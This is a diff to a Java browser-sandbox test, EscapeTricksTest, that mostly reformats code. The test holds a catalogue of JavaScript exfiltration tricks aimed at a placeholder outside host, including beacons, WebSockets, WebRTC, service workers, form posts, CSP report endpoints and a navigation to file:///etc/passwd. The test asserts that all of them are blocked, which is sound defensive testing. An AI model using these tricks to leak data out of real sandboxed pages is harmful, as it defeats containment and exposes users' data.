@@ -10,6 +10,7 @@ import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Objects;
 import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
@@ -38,7 +39,7 @@ class EscapeTricksTest {
   static void open() throws IOException {
     exam = new PageServer("localhost");
     outside = new PageServer("127.0.0.1");
-    listening = new DatagramSocket(0, InetAddress.getByName("127.0.0.1"));
+    listening = new DatagramSocket(0, InetAddress.ofLiteral("127.0.0.1"));
     Thread.startVirtualThread(EscapeTricksTest::listen);
     visitor = ChromiumVisits.to(exam);
     pages();
@@ -80,11 +81,17 @@ class EscapeTricksTest {
   @MethodSource("tricks")
   void letsNothingOut(String trick) {
     int before = outside.requests().size();
-    String script = TRICKS.get(trick).replace("OUT", outside.origin()).replace("EXAM", exam.origin())
-        .replace("PORT", outside.origin().substring(outside.origin().lastIndexOf(':') + 1))
-        .replace("UDP", Integer.toString(listening.getLocalPort()));
-    visitor.script("window.tried = 0; (async () => {" + script + "\n})().catch(() => {})"
-        + ".finally(() => setTimeout(() => { tried = 1 }, 60)); 0");
+    String script =
+        trick(trick)
+            .replace("OUT", outside.origin())
+            .replace("EXAM", exam.origin())
+            .replace("PORT", outside.origin().substring(outside.origin().lastIndexOf(':') + 1))
+            .replace("UDP", Integer.toString(listening.getLocalPort()));
+    visitor.script(
+        "window.tried = 0; (async () => {"
+            + script
+            + "\n})().catch(() => {})"
+            + ".finally(() => setTimeout(() => { tried = 1 }, 60)); 0");
     Fx.await(trick + " was tried", () -> isOver());
     assertThat(outside.requests().stream().skip(before).toList()).isEmpty();
     assertThat(DATAGRAMS).isEmpty();
@@ -98,13 +105,14 @@ class EscapeTricksTest {
 
   /** The tricks are no tricks where they are allowed: else they would prove nothing. */
   @ParameterizedTest
-  @ValueSource(strings = {"fetch", "an image", "a beacon", "a web socket by another name", "a worker"})
+  @ValueSource(
+      strings = {"fetch", "an image", "a beacon", "a web socket by another name", "a worker"})
   void letsTheSameThroughToAnAllowedServer(String trick) {
     int before = exam.requests().size();
     String port = exam.origin().substring(exam.origin().lastIndexOf(':') + 1);
     visitor.script(
         "(async () => {"
-            + TRICKS.get(trick).replace("OUT", exam.origin()).replace("PORT", port)
+            + trick(trick).replace("OUT", exam.origin()).replace("PORT", port)
             + "})(); 0");
     Fx.await(trick + " arrives", () -> exam.requests().size() > before);
   }
@@ -120,39 +128,73 @@ class EscapeTricksTest {
     exam.redirect("/redirect302", 302, outside.origin() + "/r302");
     exam.redirect("/redirect307", 307, outside.origin() + "/r307");
     exam.redirect("/redirect308", 308, outside.origin() + "/r308");
-    exam.on("/refresh", exchange -> {
-      exchange.getResponseHeaders().set("Refresh", "0;url=" + outside.origin() + "/refresh");
-      PageServer.send(exchange, 200, "text/html", "x");
-    });
-    exam.on("/hints", exchange -> {
-      exchange.getResponseHeaders().set("Link",
-          "<" + outside.origin() + "/hint.js>; rel=preload; as=script");
-      PageServer.send(exchange, 200, "text/html", "x");
-    });
+    exam.on(
+        "/refresh",
+        exchange -> {
+          exchange.getResponseHeaders().set("Refresh", "0;url=" + outside.origin() + "/refresh");
+          PageServer.send(exchange, 200, "text/html", "x");
+        });
+    exam.on(
+        "/hints",
+        exchange -> {
+          exchange
+              .getResponseHeaders()
+              .set("Link", "<" + outside.origin() + "/hint.js>; rel=preload; as=script");
+          PageServer.send(exchange, 200, "text/html", "x");
+        });
     exam.page("/meta", "<meta http-equiv=refresh content='0;url=" + outside.origin() + "/meta'>");
-    exam.page("/worker.js", "text/javascript",
-        "const o='" + outside.origin() + "';fetch(o+'/w');try{importScripts(o+'/wi.js')}catch(e){};"
-            + "try{new WebSocket(o.replace('http','ws')+'/ws')}catch(e){};"
-            + "const x=new XMLHttpRequest();x.open('GET',o+'/wx',false);try{x.send()}catch(e){};postMessage(1)");
+    exam.page(
+        "/worker.js",
+        "text/javascript",
+        "const o='"
+            + outside.origin()
+            + "';fetch(o+'/w');try{importScripts(o+'/wi.js')}catch(e){};try{new"
+            + " WebSocket(o.replace('http','ws')+'/ws')}catch(e){};const x=new"
+            + " XMLHttpRequest();x.open('GET',o+'/wx',false);try{x.send()}catch(e){};postMessage(1)");
     exam.page("/module.js", "text/javascript", "import '" + outside.origin() + "/m.js'");
-    exam.page("/sw.js", "text/javascript",
-        "const o='" + outside.origin() + "';oninstall=e=>{skipWaiting();e.waitUntil(fetch(o+'/sw').catch(()=>0))};"
+    exam.page(
+        "/sw.js",
+        "text/javascript",
+        "const o='"
+            + outside.origin()
+            + "';oninstall=e=>{skipWaiting();e.waitUntil(fetch(o+'/sw').catch(()=>0))};"
             + "onactivate=e=>e.waitUntil(clients.claim());"
             + "onfetch=e=>{if(e.request.url.includes('/swfetch'))e.respondWith(fetch(o+'/swf'))}");
-    exam.page("/shared.js", "text/javascript",
-        "fetch('" + outside.origin() + "/shared').catch(()=>0)");
-    exam.page("/frame", "<script>fetch('" + outside.origin() + "/fr').catch(()=>0);"
-        + "location='" + outside.origin() + "/frl'</script>");
-    exam.on("/csp", exchange -> {
-      exchange.getResponseHeaders().set("Content-Security-Policy",
-          "img-src 'none'; report-uri " + outside.origin() + "/csp");
-      PageServer.send(exchange, 200, "text/html", "<img src=/x.png>");
-    });
-    exam.on("/report-to", exchange -> {
-      exchange.getResponseHeaders().set("Reporting-Endpoints", "d=\"" + outside.origin() + "/rt\"");
-      exchange.getResponseHeaders().set("Content-Security-Policy", "img-src 'none'; report-to d");
-      PageServer.send(exchange, 200, "text/html", "<img src=/x.png>");
-    });
+    exam.page(
+        "/shared.js", "text/javascript", "fetch('" + outside.origin() + "/shared').catch(()=>0)");
+    exam.page(
+        "/frame",
+        "<script>fetch('"
+            + outside.origin()
+            + "/fr').catch(()=>0);"
+            + "location='"
+            + outside.origin()
+            + "/frl'</script>");
+    exam.on(
+        "/csp",
+        exchange -> {
+          exchange
+              .getResponseHeaders()
+              .set(
+                  "Content-Security-Policy",
+                  "img-src 'none'; report-uri " + outside.origin() + "/csp");
+          PageServer.send(exchange, 200, "text/html", "<img src=/x.png>");
+        });
+    exam.on(
+        "/report-to",
+        exchange -> {
+          exchange
+              .getResponseHeaders()
+              .set("Reporting-Endpoints", "d=\"" + outside.origin() + "/rt\"");
+          exchange
+              .getResponseHeaders()
+              .set("Content-Security-Policy", "img-src 'none'; report-to d");
+          PageServer.send(exchange, 200, "text/html", "<img src=/x.png>");
+        });
+  }
+
+  private static String trick(String name) {
+    return Objects.requireNonNull(TRICKS.get(name));
   }
 
   private static void add(String name, String script) {
@@ -160,8 +202,11 @@ class EscapeTricksTest {
   }
 
   private static void element(String name, String html) {
-    add(name, "const d = document.createElement('div'); d.innerHTML = `" + html
-        + "`; document.body.append(d); await new Promise(r => setTimeout(r, 80))");
+    add(
+        name,
+        "const d = document.createElement('div'); d.innerHTML = `"
+            + html
+            + "`; document.body.append(d); await new Promise(r => setTimeout(r, 80))");
   }
 
   private static List<String> names() {
@@ -187,14 +232,17 @@ class EscapeTricksTest {
     add("a file", "location = 'file:///etc/passwd'");
     add("the browser's own page", "location = 'chrome://version'");
     add("a page of data", "location = 'data:text/html,<img src=OUT/a>'");
-    add("a page from a blob",
+    add(
+        "a page from a blob",
         "location = URL.createObjectURL(new Blob(['<img src=OUT/a>'], {type: 'text/html'}))");
     add("a script's address", "location = 'javascript:fetch(\"OUT/a\")'");
     add("a redirect 301", "location = '/redirect301'");
     add("a redirect 302", "location = '/redirect302'");
     add("a redirect 307 of a form", "await fetch('/redirect307', {method: 'POST', body: 'x'})");
-    add("a redirect 308 in a frame", "const f = document.createElement('iframe');"
-        + "f.src = '/redirect308'; document.body.append(f); await new Promise(r => setTimeout(r, 80))");
+    add(
+        "a redirect 308 in a frame",
+        "const f = document.createElement('iframe');f.src = '/redirect308';"
+            + " document.body.append(f); await new Promise(r => setTimeout(r, 80))");
     add("a Refresh header", "location = '/refresh'");
     add("a refreshing meta", "location = '/meta'");
     add("a Link header", "location = '/hints'");
@@ -203,35 +251,66 @@ class EscapeTricksTest {
     add("fetch kept alive", "await fetch('OUT/a', {keepalive: true, mode: 'no-cors'})");
     add("fetch by POST", "await fetch('OUT/a', {method: 'POST', body: 'x', mode: 'no-cors'})");
     add("fetch by a preflight", "await fetch('OUT/a', {headers: {'X-A': '1'}})");
-    add("a request", "const x = new XMLHttpRequest(); x.open('GET', 'OUT/a'); x.send();"
-        + "await new Promise(r => { x.onloadend = r })");
-    add("a request that waits", "const x = new XMLHttpRequest(); x.open('GET', 'OUT/a', false); x.send()");
-    add("a beacon", "navigator.sendBeacon('OUT/a', 'x'); await new Promise(r => setTimeout(r, 80))");
-    add("server-sent events", "new EventSource('OUT/a'); await new Promise(r => setTimeout(r, 80))");
-    add("a web socket", "const s = new WebSocket('ws://127.0.0.1:PORT/a');"
-        + "await new Promise(r => { s.onclose = r; s.onerror = r })");
-    add("a web socket by another name", "const s = new WebSocket('ws://localhost:PORT/a');"
-        + "await new Promise(r => { s.onclose = r; s.onerror = r })");
-    add("an encrypted web socket", "const s = new WebSocket('wss://127.0.0.1:PORT/a');"
-        + "await new Promise(r => { s.onclose = r; s.onerror = r })");
+    add(
+        "a request",
+        "const x = new XMLHttpRequest(); x.open('GET', 'OUT/a'); x.send();"
+            + "await new Promise(r => { x.onloadend = r })");
+    add(
+        "a request that waits",
+        "const x = new XMLHttpRequest(); x.open('GET', 'OUT/a', false); x.send()");
+    add(
+        "a beacon",
+        "navigator.sendBeacon('OUT/a', 'x'); await new Promise(r => setTimeout(r, 80))");
+    add(
+        "server-sent events",
+        "new EventSource('OUT/a'); await new Promise(r => setTimeout(r, 80))");
+    add(
+        "a web socket",
+        "const s = new WebSocket('ws://127.0.0.1:PORT/a');"
+            + "await new Promise(r => { s.onclose = r; s.onerror = r })");
+    add(
+        "a web socket by another name",
+        "const s = new WebSocket('ws://localhost:PORT/a');"
+            + "await new Promise(r => { s.onclose = r; s.onerror = r })");
+    add(
+        "an encrypted web socket",
+        "const s = new WebSocket('wss://127.0.0.1:PORT/a');"
+            + "await new Promise(r => { s.onclose = r; s.onerror = r })");
     add("a web socket stream", "await new WebSocketStream('ws://127.0.0.1:PORT/a').opened");
     add("web transport", "await new WebTransport('https://127.0.0.1:PORT/a').ready");
     add("a window", "window.open('OUT/a'); await new Promise(r => setTimeout(r, 80))");
-    add("a window without opener", "window.open('OUT/a', '_blank', 'noopener');"
-        + "await new Promise(r => setTimeout(r, 80))");
-    add("a window that goes on", "const w = window.open(''); if (w) w.location = 'OUT/a';"
-        + "await new Promise(r => setTimeout(r, 120))");
-    add("a window that is written", "const w = window.open(''); if (w) w.document.write('<img src=OUT/a>');"
-        + "await new Promise(r => setTimeout(r, 120))");
-    add("a form", "const f = document.createElement('form'); f.action = 'OUT/a'; f.method = 'POST';"
-        + "document.body.append(f); f.submit()");
-    add("a form into a window", "const f = document.createElement('form'); f.action = 'OUT/a';"
-        + "f.target = '_blank'; document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 80))");
-    add("a link", "const a = document.createElement('a'); a.href = 'OUT/a'; document.body.append(a); a.click()");
-    add("a link that is told of", "const a = document.createElement('a'); a.href = '/start'; a.ping = 'OUT/a';"
-        + "document.body.append(a); a.click()");
-    add("a download", "const a = document.createElement('a'); a.href = 'OUT/a'; a.download = 'a';"
-        + "document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 80))");
+    add(
+        "a window without opener",
+        "window.open('OUT/a', '_blank', 'noopener');"
+            + "await new Promise(r => setTimeout(r, 80))");
+    add(
+        "a window that goes on",
+        "const w = window.open(''); if (w) w.location = 'OUT/a';"
+            + "await new Promise(r => setTimeout(r, 120))");
+    add(
+        "a window that is written",
+        "const w = window.open(''); if (w) w.document.write('<img src=OUT/a>');"
+            + "await new Promise(r => setTimeout(r, 120))");
+    add(
+        "a form",
+        "const f = document.createElement('form'); f.action = 'OUT/a'; f.method = 'POST';"
+            + "document.body.append(f); f.submit()");
+    add(
+        "a form into a window",
+        "const f = document.createElement('form'); f.action = 'OUT/a';f.target = '_blank';"
+            + " document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 80))");
+    add(
+        "a link",
+        "const a = document.createElement('a'); a.href = 'OUT/a'; document.body.append(a);"
+            + " a.click()");
+    add(
+        "a link that is told of",
+        "const a = document.createElement('a'); a.href = '/start'; a.ping = 'OUT/a';"
+            + "document.body.append(a); a.click()");
+    add(
+        "a download",
+        "const a = document.createElement('a'); a.href = 'OUT/a'; a.download = 'a';"
+            + "document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 80))");
     element("an image", "<img src=OUT/a.png>");
     element("an image of many", "<img srcset='OUT/a.png 1x'>");
     element("a frame", "<iframe src=OUT/a></iframe>");
@@ -245,7 +324,9 @@ class EscapeTricksTest {
     element("a track", "<video><track default src=OUT/a.vtt></video>");
     element("a style sheet", "<link rel=stylesheet href=OUT/a.css>");
     element("an imported style", "<style>@import 'OUT/a.css'</style>");
-    element("a font", "<style>@font-face{font-family:z;src:url(OUT/a.woff)}p{font-family:z}</style><p>z");
+    element(
+        "a font",
+        "<style>@font-face{font-family:z;src:url(OUT/a.woff)}p{font-family:z}</style><p>z");
     element("a background", "<div style='background:url(OUT/a.png)'>x</div>");
     element("a drawing", "<svg><image href='OUT/a.svg'/><use href='OUT/b.svg#x'/></svg>");
     element("prefetch", "<link rel=prefetch href=OUT/a>");
@@ -254,32 +335,57 @@ class EscapeTricksTest {
     element("a name looked up ahead", "<link rel=dns-prefetch href=//outside.example>");
     element("an icon", "<link rel=icon href=OUT/a.ico>");
     element("a manifest", "<link rel=manifest href=OUT/a.json>");
-    add("a page made ready", "const s = document.createElement('script'); s.type = 'speculationrules';"
-        + "s.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['OUT/a']}],"
-        + "prefetch: [{source: 'list', urls: ['OUT/b']}]}); document.head.append(s);"
-        + "await new Promise(r => setTimeout(r, 120))");
-    add("a script", "const s = document.createElement('script'); s.src = 'OUT/a.js'; document.head.append(s);"
-        + "await new Promise(r => { s.onerror = r; s.onload = r })");
+    add(
+        "a page made ready",
+        "const s = document.createElement('script'); s.type = 'speculationrules';"
+            + "s.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['OUT/a']}],"
+            + "prefetch: [{source: 'list', urls: ['OUT/b']}]}); document.head.append(s);"
+            + "await new Promise(r => setTimeout(r, 120))");
+    add(
+        "a script",
+        "const s = document.createElement('script'); s.src = 'OUT/a.js'; document.head.append(s);"
+            + "await new Promise(r => { s.onerror = r; s.onload = r })");
     add("a module", "await import('OUT/a.js')");
     add("a module's module", "await import('/module.js')");
-    add("a worker", "const w = new Worker('/worker.js'); await new Promise(r => { w.onmessage = r; w.onerror = r })");
-    add("a worker from a blob", "const w = new Worker(URL.createObjectURL(new Blob("
-        + "['fetch(\"OUT/a\").catch(()=>0).then(()=>postMessage(1))'])));"
-        + "await new Promise(r => { w.onmessage = r; w.onerror = r })");
-    add("a shared worker", "new SharedWorker('/shared.js'); await new Promise(r => setTimeout(r, 150))");
-    add("a service worker", "await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready;"
-        + "await fetch('/swfetch').catch(() => 0); (await navigator.serviceWorker.getRegistration()).unregister()");
+    add(
+        "a worker",
+        "const w = new Worker('/worker.js'); await new Promise(r => { w.onmessage = r; w.onerror ="
+            + " r })");
+    add(
+        "a worker from a blob",
+        "const w = new Worker(URL.createObjectURL(new Blob("
+            + "['fetch(\"OUT/a\").catch(()=>0).then(()=>postMessage(1))'])));"
+            + "await new Promise(r => { w.onmessage = r; w.onerror = r })");
+    add(
+        "a shared worker",
+        "new SharedWorker('/shared.js'); await new Promise(r => setTimeout(r, 150))");
+    add(
+        "a service worker",
+        "await navigator.serviceWorker.register('/sw.js'); await"
+            + " navigator.serviceWorker.ready;await fetch('/swfetch').catch(() => 0); (await"
+            + " navigator.serviceWorker.getRegistration()).unregister()");
     add("a worklet", "await CSS.paintWorklet?.addModule('OUT/a.js')");
     add("a sound worklet", "await new AudioContext().audioWorklet.addModule('OUT/a.js')");
-    add("a peer connection", "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
-        + "p.createDataChannel('x'); await p.setLocalDescription(); await new Promise(r => setTimeout(r, 300)); p.close()");
-    add("a peer connection by TCP", "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp',"
-        + "username: 'a', credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription();"
-        + "await new Promise(r => setTimeout(r, 150)); p.close()");
+    add(
+        "a peer connection",
+        "const p = new RTCPeerConnection({iceServers: [{urls:"
+            + " 'stun:127.0.0.1:UDP'}]});p.createDataChannel('x'); await p.setLocalDescription();"
+            + " await new Promise(r => setTimeout(r, 300)); p.close()");
+    add(
+        "a peer connection by TCP",
+        "const p = new RTCPeerConnection({iceServers: [{urls:"
+            + " 'turn:127.0.0.1:PORT?transport=tcp',username: 'a', credential: 'b'}]});"
+            + " p.createDataChannel('x'); await p.setLocalDescription();await new Promise(r =>"
+            + " setTimeout(r, 150)); p.close()");
     add("a broken rule", "location = '/csp'");
     add("a broken rule by endpoints", "location = '/report-to'");
-    add("a payment", "await new PaymentRequest([{supportedMethods: 'OUT/pay'}],"
-        + "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()");
-    add("a shared login", "await navigator.credentials.get({identity: {providers: [{configURL: 'OUT/c.json', clientId: '1'}]}})");
+    add(
+        "a payment",
+        "await new PaymentRequest([{supportedMethods: 'OUT/pay'}],"
+            + "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()");
+    add(
+        "a shared login",
+        "await navigator.credentials.get({identity: {providers: [{configURL: 'OUT/c.json',"
+            + " clientId: '1'}]}})");
   }
 }
